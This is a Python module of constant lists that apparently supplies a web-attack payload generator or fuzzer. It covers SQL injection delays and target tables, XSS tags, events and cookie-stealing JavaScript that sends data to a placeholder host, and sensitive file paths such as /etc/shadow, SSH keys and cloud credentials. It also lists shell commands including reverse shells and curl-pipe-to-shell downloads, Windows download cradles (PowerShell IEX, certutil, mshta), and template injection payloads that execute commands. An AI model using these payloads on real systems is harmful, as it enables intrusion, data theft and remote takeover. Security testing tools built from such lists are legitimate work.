"""Words of the attacked languages: SQL, HTML, JavaScript, shells, template engines, and files worth reading."""

from __future__ import annotations

from typing import Final

TABLES: Final = "users user accounts members customers admin orders employees wp_users information_schema.tables information_schema.columns mysql.user sys.tables pg_catalog.pg_tables sysobjects all_tables products credit_cards sessions login tbl_user sqlite_master".split()
COLUMNS: Final = "id password passwd pass pwd username user_name email login name card_number secret hash token role salary table_name column_name schema_name ssn user_pass uid".split()
SLEEPS: Final = (
    "sleep(N)", "SLEEP(N)", "pg_sleep(N)", "benchmark(N000000,md5(1))", "(select sleep(N))", "waitfor delay '0:0:N'", "dbms_pipe.receive_message('a',N)",
    "(select pg_sleep(N))", "randomblob(N00000000)", "dbms_lock.sleep(N)", "BENCHMARK(N000000,SHA1(1))", "like('abcdefg',upper(hex(randomblob(N00000000))))",
    "generate_series(1,N000000)", "utl_inaddr.get_host_address('a')", "dbms_session.sleep(N)", "(select count(*) from generate_series(1,N000000))",
)  # fmt: skip
TAGS: Final = "img svg body input iframe video audio details marquee a div button select textarea form object embed math style link table td p b span keygen isindex x custom-tag image source animate set svg/onload body/onload bgsound frameset html meter title noscript label canvas".split()
EVENTS: Final = "onerror onload onclick onmouseover onfocus ontoggle onstart onpointerenter onanimationend onbegin onkeydown onmouseenter onblur oncopy onpageshow onhashchange onwheel ontouchstart onresize onsubmit onchange oninput oncanplay onloadstart onscroll OnErRoR ONLOAD onpointerover onbeforetoggle ondrag onauxclick ontransitionend onplay onseeked onunload onmessage onpaste onselect oncontextmenu".split()
JS: Final = (
    "alert(N)", "alert('W')", "alert(document.cookie)", "confirm(N)", "prompt(N)", "alert`N`", "eval(atob('W'))", "document.location='//W.example/'+document.cookie",
    "fetch('//W.example?c='+document.cookie)", "top['al'+'ert'](N)", "window['alert'](N)", "(alert)(N)", "self[/ale/.source+/rt/.source](N)", "alert(String.fromCharCode(N,N))",
    "new Image().src='//W.example/?'+document.cookie", "document.write('<img src=//W.example>')", "import('//W.example')", "setTimeout('alert(N)')", "[].map.constructor('alert(N)')()",
    "location='javascript:alert(N)'", "console.log(document.domain)", "alert(document.domain)", "print()", "alert(N)//", "throw onerror=alert,N", "a=alert,a(N)", "Function('alert(N)')()",
    "parent.alert(N)", "globalThis.alert(N)", "document.body.innerHTML='W'", "&#97;lert(N)", "\\u0061lert(N)", "localStorage.getItem('W')", "eval(name)", "eval(location.hash.slice(1))",
    "navigator.sendBeacon('//W.example',document.cookie)", "$.getScript('//W.example')", "XMLHttpRequest()", "document['cookie']", "alert(/W/)", "this[`ale`+`rt`](N)", "W.constructor.constructor('alert(N)')()",
)  # fmt: skip
URLS: Final = (
    "http://W.example/",
    "https://W.example/x.js",
    "//W.example",
    "http://W.example/W.txt?",
    "ftp://W.example/W",
    "http://10.0.0.5:8000/W",
    "https://W.example/W.dtd",
    "\\\\W.example\\W",
)
FILES_UNIX: Final = "/etc/passwd /etc/shadow /etc/hosts /etc/group /proc/self/environ /proc/version /proc/self/cmdline /var/log/apache2/access.log /var/log/auth.log /root/.ssh/id_rsa /home/user/.bash_history /etc/mysql/my.cnf /etc/nginx/nginx.conf /var/www/html/config.php wp-config.php .env .git/config /etc/issue /etc/crontab /usr/local/apache/conf/httpd.conf /var/lib/mysql/mysql.err /proc/net/tcp web.xml WEB-INF/web.xml /etc/resolv.conf .htpasswd .aws/credentials /etc/ssh/sshd_config /var/run/secrets/kubernetes.io/serviceaccount/token".split()
FILES_WINDOWS: Final = (
    "windows\\win.ini",
    "windows/win.ini",
    "boot.ini",
    "windows\\system32\\drivers\\etc\\hosts",
    "winnt/system32/cmd.exe",
    "windows\\system32\\config\\sam",
    "inetpub\\wwwroot\\web.config",
    "web.config",
    "C:\\boot.ini",
    "c:/windows/win.ini",
    "windows\\repair\\sam",
    "inetpub/logs/logfiles",
)
COMMANDS: Final = (
    "id", "whoami", "uname -a", "cat /etc/passwd", "ls -la", "ls", "sleep 5", "ping -c 3 W.example", "curl http://W.example/", "wget http://W.example/W.sh", "nc -e /bin/sh W.example 4444", "bash -i >& /dev/tcp/W.example/443 0>&1",
    "cat /etc/shadow", "rm -rf /tmp/W", "env", "ps aux", "ifconfig", "netstat -an", "nslookup W.example", "echo W", "python -c 'import os'", "perl -e 'print 1'", "curl W.example|sh", "chmod 777 W", "touch /tmp/W", "head -n 5 /etc/passwd",
    "base64 /etc/passwd", "php -r 'phpinfo();'", "dig W.example", "/bin/cat /etc/passwd", "/usr/bin/id", "find / -name W", "tail /var/log/syslog", "socat tcp:W.example:80 exec:sh", "busybox wget W.example", "awk 'BEGIN{system(\"id\")}'", "xxd /etc/passwd", "crontab -l", "hostname", "printenv", "pwd", "sh -c id", "printf W", "kill -9 1", "docker ps", "tftp W.example", "telnet W.example 80", "lua -e 'os.execute()'", "ruby -e 'exec'", "mknod W p",
)  # fmt: skip
WINDOWS_COMMANDS: Final = (
    "dir",
    "dir C:\\",
    "ipconfig /all",
    "net user",
    "type C:\\windows\\win.ini",
    "ping -n 5 127.0.0.1",
    "powershell -enc W",
    "powershell IEX(New-Object Net.WebClient).DownloadString('http://W.example')",
    "cmd.exe /c whoami",
    "certutil -urlcache -f http://W.example/W.exe",
    "systeminfo",
    "tasklist",
    "net localgroup administrators",
    "whoami /priv",
    "reg query HKLM",
    "wmic process list",
    "timeout 5",
    "echo %PATH%",
    "cmd /c calc",
    "powershell Get-Process",
    "start calc.exe",
    "mshta http://W.example/W.hta",
    "rundll32 W.dll,a",
    "bitsadmin /transfer W http://W.example",
)
TEMPLATES: Final = (
    "{{AA*BB}}", "${AA*BB}", "#{AA*BB}", "<%= AA*BB %>", "{{AA+BB}}", "*{AA*BB}", "@(AA*BB)", "{AA*BB}", "${{AA*BB}}", "[[${AA*BB}]]", "{{'WW'*BB}}", "{%if AA==AA%}WW{%endif%}", "{{config}}", "{{config.items()}}", "{{self.__init__.__globals__}}",
    "{{request.application.__globals__.__builtins__.__import__('os').popen('CC').read()}}", "{{''.__class__.__mro__[1].__subclasses__()}}", "{{cycler.__init__.__globals__.os.popen('CC').read()}}", "{{lipsum.__globals__['os'].popen('CC').read()}}",
    "{% for x in ().__class__.__base__.__subclasses__() %}{{x}}{% endfor %}", "{{_self.env.registerUndefinedFilterCallback('exec')}}{{_self.env.getFilter('CC')}}", "{{['CC']|filter('system')}}", "{{['CC']|map('passthru')|join}}", "{php}echo `CC`;{/php}", "{system('CC')}",
    "<#assign ex='freemarker.template.utility.Execute'?new()>${ex('CC')}", "${'freemarker.template.utility.Execute'?new()('CC')}", "#set($x='')#set($rt=$x.class.forName('java.lang.Runtime'))$rt.getRuntime().exec('CC')", "$class.inspect('java.lang.Runtime').type.getRuntime().exec('CC')",
    "<%= `CC` %>", "<%= system('CC') %>", "<%= File.open('/etc/passwd').read %>", "${self.module.cache.util.os.system('CC')}", "<% import os; x=os.popen('CC').read() %>${x}", "{{import os}}{{os.system('CC')}}", "#{root.process.mainModule.require('child_process').execSync('CC')}",
    "{{range.constructor('return global.process')()}}", "{{this.push(this.constructor.constructor('WW')())}}", "${T(java.lang.System).getenv()}", "${''.getClass().forName('java.lang.Runtime')}", "{{''.getClass().forName('javax.script.ScriptEngineManager').newInstance()}}", "@{1+1}", "@System.Diagnostics.Process.Start('CC')", "{{dump(app)}}", "{{app.request.server.all|join(',')}}", "{$smarty.version}", "{{get_flashed_messages.__globals__}}", "${session.setAttribute('WW',AA)}", "#{''.class.forName('java.lang.Runtime')}", "{{joiner.__init__.__globals__.os}}", "{{namespace.__init__.__globals__.os.popen('CC')}}", "{{url_for.__globals__.current_app.config}}", "<%= AA*BB", "{{=AA*BB}}", "${7*'7'}{{WW}}",
)  # fmt: skip
